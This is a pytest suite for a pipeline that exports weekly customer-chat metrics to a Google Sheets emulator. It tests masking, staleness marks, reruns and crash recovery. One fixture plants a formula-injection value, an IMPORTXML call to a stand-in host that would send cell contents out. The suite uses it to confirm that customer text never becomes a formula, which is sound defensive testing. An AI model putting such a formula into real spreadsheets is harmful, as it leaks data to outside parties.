"""The spreadsheet at the end of the walk: what people read there, and that a failure leaves it as it was, marked."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import dagster as dg
import pytest

from assets.checks import exports as checks
from assets.marts.dbt import Built, TestResult
from assets.marts.description import marts
from orchestration import runner
from orchestration.definitions import defs
from resources.warehouse.engine import Warehouse
from resources.warehouse.exports import destination_of, exporting
from resources.warehouse.hashes import table_hashes
from tests.emulators.retailcrm import RetailCRMEmulator
from tests.emulators.sheets import SPREADSHEET_ID, SheetsEmulator
from tests.emulators.shop.model import Shop
from tests.pipeline.conftest import environment
from tests.pipeline.publisher import Publisher

MONDAY = date(2026, 11, 16)
WEEK, TITLE = "2026-W46", "2026-W46 (09.11–15.11)"
TABS = ["manager_summary", "channel_summary", "chats_raw", "messages_raw"]
KEYS = [dg.AssetKey(["exports", f"google_sheets__{tab}"]) for tab in (*TABS, "data_status")]
FORMULA = '=IMPORTXML("http://example.invalid/?"&A1)'
SECRET = "Мой номер 8 (926) 123-45-67, почта anna@example.ru, карта 4111 1111 1111 1111; заказ 1234567 на 12 990 ₽"
MASKED = "Мой номер [телефон], почта [почта], карта [карта]; заказ 1234567 на 12 990 ₽"


QUIET = {"loggers": {"console": {"config": {"log_level": "CRITICAL"}}}}


@pytest.fixture(scope="module")
def account() -> Iterator[RetailCRMEmulator]:
    """A small shop in which a customer writes what must not leave as it is."""
    shop = Shop.tiny(3, MONDAY)
    customers = sorted(one.id for one in shop.messages if one.sender == "customer")
    shop.edit_message(customers[0], SECRET)
    shop.edit_message(customers[1], FORMULA)
    with RetailCRMEmulator(shop, rate=None) as emulator:
        yield emulator


@pytest.fixture(scope="module")
def sheets() -> Iterator[SheetsEmulator]:
    with SheetsEmulator(quota=None, large="allow") as emulator:
        yield emulator


@pytest.fixture(scope="module", autouse=True)
def spreadsheet(connected: Warehouse, sheets: SheetsEmulator) -> Iterator[None]:
    """The environment of an installation that writes a spreadsheet."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GOOGLE_SHEETS_ID", sheets.spreadsheet_id)
        patch.setenv("GOOGLE_SERVICE_ACCOUNT_JSON", str(sheets.service_account_file))
        patch.setenv("SHEETS_BASE_URL", sheets.base_url)
        patch.setenv("SHEETS_REQUESTS_PER_MINUTE", "1000")
        yield


@pytest.fixture(scope="module")
def published(connected: Warehouse, instance: dg.DagsterInstance) -> list[runner.RunSummary]:
    return runner.run_weeks(WEEK, WEEK, instance=instance)


def show(instance: dg.DagsterInstance, *, rewrite: bool = False) -> dg.ExecuteInProcessResult:
    """Only the spreadsheet, from the marts that are there."""
    config = {**QUIET, "ops": {"exports_sheets": {"config": {"rewrite": rewrite}}}}
    return defs.resolve_job_def("publish_week").execute_in_process(
        instance=instance, asset_selection=KEYS, raise_on_error=False, run_config=config
    )


def table(sheets: SheetsEmulator, tab: str) -> list[dict[str, Any]]:
    heading, *rows = sheets.values(f"{tab}!A1:Z")
    return [dict(zip(heading, row + [""] * (len(heading) - len(row)), strict=True)) for row in rows]


def reading(sheets: SheetsEmulator) -> dict[str, list[list[Any]]]:
    return {tab: sheets.values(f"{tab}!A1:Z") for tab in TABS}


def problem(result: dg.ExecuteInProcessResult) -> str:
    (event,) = [event for event in result.all_events if event.is_step_failure]
    failure = event.step_failure_data
    return str(failure.user_failure_data.description if failure.user_failure_data else failure.error)


def test_the_tabs_are_there_in_their_order_and_nothing_else(
    published: list[runner.RunSummary], sheets: SheetsEmulator
) -> None:
    assert list(sheets.visible()) == ["Лист1", *TABS, "data_status"]
    assert not [title for title, properties in sheets.sheets().items() if properties.get("hidden")]
    assert published[-1].rows["exports.google_sheets__messages_raw"] == len(table(sheets, "messages_raw"))
    assert {check.name for check in published[-1].checks} >= {one.rule.name for one in checks.RULES}


def test_managers_read_as_the_marts_say(
    published: list[runner.RunSummary], sheets: SheetsEmulator, connected: Warehouse
) -> None:
    with connected.connect() as sql:
        rows = sql.execute(
            """
            select manager_name, waits_settled, in_target, answered, reply_p50_business_seconds
            from marts.manager_week where week = %s and (waits_settled > 0 or sessions_touched > 0 or pending_now > 0)
            """,
            [WEEK],
        ).fetchall()
    shown = {row["Менеджер"]: row for row in table(sheets, "manager_summary")}
    assert set(shown) == {row[0] for row in rows} and len(rows) >= 2
    for name, settled, in_target, answered, median in rows:
        row = shown[name]
        assert row["Неделя"] == TITLE
        assert (row["Закрыто вопросов, n"], row["Всего ответов"]) == (settled, answered)
        assert row["В норме, % от n"] == (pytest.approx(in_target / settled, abs=1e-6) if settled else "")
        assert row["Любой ответ: медиана, раб. мин"] == (
            "" if median is None else pytest.approx(median / 60, abs=0.005)
        )
        assert row["Данные"] == "полные"


def test_channels_chats_and_messages_agree_with_the_tables(
    published: list[runner.RunSummary], sheets: SheetsEmulator, connected: Warehouse
) -> None:
    with connected.connect() as sql:
        told = sql.execute(
            "select conversation_id, sent_at at time zone 'Europe/Moscow', text from core.messages"
            " where sender_kind <> 'system' and business_on between %s and %s order by conversation_id, sent_at",
            [MONDAY - timedelta(days=7), MONDAY - timedelta(days=1)],
        ).fetchall()
        asked = sql.execute("select count(*) from evaluated.waits where settled_week = %s and outcome = 'in_target'"
                            " and wait_kind = 'message'", [WEEK]).fetchone()  # fmt: skip
    messages, chats = table(sheets, "messages_raw"), table(sheets, "chats_raw")
    assert len(messages) == len(told)
    assert [row["Чат"] for row in chats] == list(dict.fromkeys(row["Чат"] for row in messages))
    assert {row["Чат"] for row in chats} == {row[0] for row in told}
    # a moment is the number of days since 30 December 1899, local time
    moments = sorted(
        (row[0], (row[1].replace(microsecond=0) - datetime(1899, 12, 30)) / timedelta(days=1)) for row in told
    )
    assert sorted((row["Чат"], row["Время"]) for row in messages) == [(c, pytest.approx(at)) for c, at in moments]
    assert sum(row["В норме"] for row in chats) == asked[0]
    channels = table(sheets, "channel_summary")
    assert [row["Канал"] for row in channels] == ["Instagram", "WhatsApp Москва"]
    assert sum(row["Сообщений от клиентов"] for row in channels) == sum(row["Сообщений клиента"] for row in chats)
    assert {row["Кто"] for row in messages} >= {"Клиент", "Менеджер", "Бот", "Автоответ"}
    assert {row["Имя"] for row in messages if row["Кто"] == "Клиент"} == {f"Клиент {last}" for last in {"П."}}, (
        "customers by first name and initial"
    )


def test_contacts_are_masked_and_no_text_becomes_a_formula(
    published: list[runner.RunSummary], sheets: SheetsEmulator
) -> None:
    texts = [row["Сообщение"] for row in table(sheets, "messages_raw")]
    assert MASKED in texts and FORMULA in texts
    words = "\n".join(
        cell for rows in reading(sheets).values() for row in rows for cell in row if isinstance(cell, str)
    )
    assert not re.search(r"\+7\s?700|926|anna@|4111", words)
    assert not any(sheets.formulas().values())


def test_data_status_speaks_of_every_tab_and_week(
    published: list[runner.RunSummary], sheets: SheetsEmulator, connected: Warehouse
) -> None:
    rows = table(sheets, "data_status")
    assert [(row["Вкладка"], row["Неделя"], row["Устарело"], row["Данные"]) for row in rows] == [
        (tab, TITLE, "нет", "полные") for tab in TABS
    ]
    assert [row["Строк за неделю"] for row in rows] == [len(table(sheets, tab)) for tab in TABS]
    # midnight of Monday in Moscow
    assert {row["Посчитано на"] for row in rows} == {(MONDAY - date(1899, 12, 30)).days}
    with connected.connect() as sql:
        kept = sql.execute("select tab, row_count, first_week, stale_reason from ops.exports where destination = %s"
                           " order by tab", [destination_of(SPREADSHEET_ID)]).fetchall()  # fmt: skip
    assert [row[0] for row in kept] == sorted([*TABS, "data_status"])
    assert {(row[2], row[3]) for row in kept if row[0] in TABS} == {(WEEK, None)}


def test_the_same_again_asks_nothing_and_changes_nothing(
    published: list[runner.RunSummary], sheets: SheetsEmulator, connected: Warehouse, instance: dg.DagsterInstance
) -> None:
    tab = sheets.sheets()["manager_summary"]["sheetId"]
    sheets.requests([{"appendDimension": {"sheetId": tab, "dimension": "COLUMNS", "length": 2}}])
    sheets.edit("manager_summary!T1:T2", [["Заметки"], ["поговорить"]])
    before, calls = table_hashes(connected, ("ops",)), len(sheets.ledger.calls)
    result = show(instance)
    assert result.success
    assert len(sheets.ledger.calls) == calls
    assert table_hashes(connected, ("ops",))["ops.exports"] == before["ops.exports"]
    result = show(instance, rewrite=True)
    assert result.success
    assert len(sheets.ledger.calls) > calls
    assert sheets.values("manager_summary!T1:T2") == [["Заметки"], ["поговорить"]]
    assert sheets.sheets()["manager_summary"]["sheetId"] == tab


def test_a_check_that_fails_or_raises_shows_nothing_but_the_mark(
    published: list[runner.RunSummary], sheets: SheetsEmulator, connected: Warehouse, instance: dg.DagsterInstance,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    def raises(_: checks.Shown) -> int:
        raise KeyError("a cell of somebody's")

    one, other, *others = checks.RULES
    before = reading(sheets)
    with connected.connect() as sql:
        sql.execute("update marts.manager_week set pending_now = pending_now + 7")
    wrong = (checks.TabRule(one.tab, one.rule, raises), checks.TabRule(other.tab, other.rule, lambda _: 3))
    with monkeypatch.context() as broken:
        broken.setattr(checks, "RULES", (*wrong, *others))
        result = show(instance)
    assert not result.success
    assert one.rule.name in problem(result) and other.rule.name in problem(result)
    judged = {check.check_name: check for check in result.get_asset_check_evaluations()}
    assert {name for name, check in judged.items() if not check.passed} == {one.rule.name, other.rule.name}
    assert "somebody" not in str(list(result.all_events))
    assert reading(sheets) == before
    rows = table(sheets, "data_status")
    assert [row["Вкладка"] for row in rows] == TABS
    assert all(row["Устарело"].startswith("да, с ") and one.rule.name in row["Почему"] for row in rows)
    with connected.connect() as sql:
        kept = sql.execute("select distinct stale_since, stale_reason from ops.exports where tab = any(%s)", [TABS])
        ((since, reason),) = kept.fetchall()
        assert since is not None and one.rule.name in reason
        sql.execute("update marts.manager_week set pending_now = pending_now - 7")
    assert show(instance).success
    assert reading(sheets) == before
    assert {row["Устарело"] for row in table(sheets, "data_status")} == {"нет"}


def test_a_week_that_cannot_be_published_leaves_the_sheet_and_marks_it(
    published: list[runner.RunSummary], sheets: SheetsEmulator, connected: Warehouse, instance: dg.DagsterInstance,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    def status() -> list[tuple[bool, str]]:
        return [(row["Устарело"].startswith("да"), row["Почему"]) for row in table(sheets, "data_status")]

    before, test = reading(sheets), marts()[0].tests[0].name
    judged = Built({}, (TestResult(test, marts()[0].name, False, 2, ""),))
    with monkeypatch.context() as failing:
        failing.setattr("assets.marts.weeks.build", lambda *_: judged)
        with pytest.raises(runner.RunFailed, match="was not published"):
            runner.publish_weeks(WEEK, WEEK, instance=instance)
    assert reading(sheets) == before
    words = f"{WEEK}: новые данные не прошли проверку, показаны прежние ({test})"
    assert status() == [(True, words)] * 4
    # shown again as it is, the week is still not the newest that was wanted
    assert show(instance).success
    assert status() == [(True, "новая версия недели не прошла проверку, показана прежняя")] * 4
    with connected.connect() as sql:
        sql.execute("update marts.data_status set is_stale = false")
    assert show(instance).success
    assert reading(sheets) == before
    assert status() == [(False, "")] * 4


def test_a_refused_account_is_named_and_the_mark_waits_until_somebody_gets_there(
    published: list[runner.RunSummary], sheets: SheetsEmulator, connected: Warehouse, instance: dg.DagsterInstance
) -> None:
    def health() -> Any:
        with connected.connect() as sql:
            return sql.execute("select status, reason from ops.connections where vendor = 'sheets'").fetchone()

    before = reading(sheets)
    sheets.share(None)
    try:
        assert not show(instance, rewrite=True).success
        assert health()[0] == "needs_auth" and health()[1]
        with connected.connect() as sql:
            stale = sql.execute("select count(stale_since) from ops.exports where tab = any(%s)", [TABS]).fetchone()
        assert stale == (4,)
    finally:
        sheets.share("writer")
    assert reading(sheets) == before
    assert show(instance).success
    assert health() == ("ok", None)
    assert {row["Устарело"] for row in table(sheets, "data_status")} == {"нет"}


def test_another_writer_is_waited_for_by_nobody_and_makes_nothing_stale(
    published: list[runner.RunSummary], sheets: SheetsEmulator, connected: Warehouse, instance: dg.DagsterInstance
) -> None:
    before = sheets.visible()
    with exporting(connected, destination_of(SPREADSHEET_ID)):
        result = show(instance, rewrite=True)
    assert not result.success and problem(result).startswith("busy: ")
    assert sheets.visible() == before


def test_without_a_spreadsheet_the_run_is_green_and_says_so(
    published: list[runner.RunSummary], sheets: SheetsEmulator, instance: dg.DagsterInstance,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    monkeypatch.delenv("GOOGLE_SHEETS_ID")
    calls = len(sheets.ledger.calls)
    result = show(instance)
    assert result.success and len(sheets.ledger.calls) == calls
    said = {str(one.metadata["shown"].value) for one in result.get_asset_materialization_events()
            for one in [one.materialization]}  # fmt: skip
    assert said == {"no spreadsheet configured"}
    assert len(result.get_asset_check_evaluations()) == len(checks.RULES)


def test_what_does_not_fit_is_left_out_and_said(
    published: list[runner.RunSummary], sheets: SheetsEmulator, instance: dg.DagsterInstance, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    before = reading(sheets)
    policy = (Path(__file__).parents[2] / "policy.yaml").read_text("utf-8")
    own = tmp_path / "policy.yaml"
    own.write_text(policy.replace("raw_rows: 50000", "raw_rows: 5").replace("texts: masked", "texts: none"), "utf-8")
    with monkeypatch.context() as changed:
        changed.setenv("OTKLIK_POLICY", str(own))
        assert show(instance).success
    messages = table(sheets, "messages_raw")
    assert len(messages) == 5
    assert {row["Сообщение"] for row in messages} == {""}
    assert {row["Чат"] for row in messages} <= {row["Чат"] for row in table(sheets, "chats_raw")}
    left = {row["Вкладка"]: row["Почему"] for row in table(sheets, "data_status")}
    assert f"без {len(before['messages_raw']) - 1 - 5} самых старых строк" in left["messages_raw"]
    assert left["manager_summary"] == ""
    assert show(instance).success
    assert reading(sheets) == before


@pytest.fixture
def killed(published: list[runner.RunSummary]) -> Iterator[Publisher]:
    with Publisher(environment()) as publisher:
        yield publisher


def test_a_kill_between_the_spreadsheet_and_the_books_is_healed_by_the_next_run(
    killed: Publisher, sheets: SheetsEmulator, connected: Warehouse, instance: dg.DagsterInstance
) -> None:
    def books() -> list[Any]:
        with connected.connect() as sql:
            return sql.execute("select tab, content_hash, weeks from ops.exports order by tab").fetchall()

    before, kept = reading(sheets), books()
    for point, texts in (("exports.announced", "full"), ("exports.shown", "full"), ("exports.before_commit", "none")):
        assert killed(point, texts) == -9
        shown = reading(sheets)
        assert (shown == before) is (point == "exports.announced"), "what is shown is whole: all old or all new"
        assert (SECRET in str(shown)) is (point == "exports.shown")
        # what the policy shows now is what the books knew before the kill: they must not believe it is still there
        assert show(instance).success
        assert reading(sheets) == before
        assert books() == kept
    assert killed("exports.marked", None) == -9
    assert {row["Устарело"] for row in table(sheets, "data_status")} == {"нет"}
    assert show(instance).success
    assert {row["Устарело"] for row in table(sheets, "data_status")} == {"нет"}
    with connected.connect() as sql:
        assert sql.execute("select count(stale_since) from ops.exports").fetchone() == (0,)
